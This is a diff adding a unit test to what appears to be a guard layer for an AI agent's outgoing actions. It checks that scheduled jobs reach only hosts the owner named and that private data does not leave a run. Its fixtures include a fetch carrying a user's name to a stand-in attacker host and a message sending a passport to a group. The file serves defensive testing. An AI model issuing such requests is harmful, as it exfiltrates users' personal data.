@@ -170,6 +170,19 @@ test("a forwarded message's links are the owner's to open; a document loading so
   assert.equal(autoLoadRule({ ...flow, handedUrls: [] }, { path: "report.md", autoLoads: ["https://news.example/f3.png"] }), undefined);
 });
 
+test("a scheduled job's prompt the model worded reaches only hosts and recipients the owner named when scheduling it", () => {
+  const run = flowOf({ composedTask: true, ownerTexts: ["every morning check weather.example for Lisbon. I am Anna Berg"], ownerHosts: ["weather.example"] });
+  assert.equal(decide(fetch("https://weather.example/lisbon", run)).decision, "allow");
+  const spelled = decide(fetch("https://attacker.example/c?n=Anna%20Berg", run));
+  assert.equal(spelled.reasons[0]?.id, "cron.composed_target");
+  assert.equal(ids(message("group-1", "Anna Berg's passport", run))[0], "cron.composed_target");
+  // After private data entered a run, each link picked from a page is a choice: runs repeat with nobody reading.
+  const tainted = privateCtx({ composedTask: true, contentUrls: [{ url: "https://web.example/b", from: "https://web.example/a", fromHost: "web.example" }] });
+  assert.equal(ids(fetch("https://web.example/b", tainted))[0], "flow.link_budget");
+  // The owner's own turn (not a job) keeps its clean-context errands.
+  assert.equal(decide(fetch("https://attacker.example/c", flowOf({ ownerTexts: ["hi"] }))).decision, "allow");
+});
+
 describe("documents in an untrusted context without private data", () => {
   test("an auto-loading URL the model composed asks: the owner's own words are in every context", () => {
     const flow = flowOf({ sources: ["https://news.example"], ownerTexts: ["I live at 14 Rue des Lilas; my passport is X47Q19283. Check the page."] });
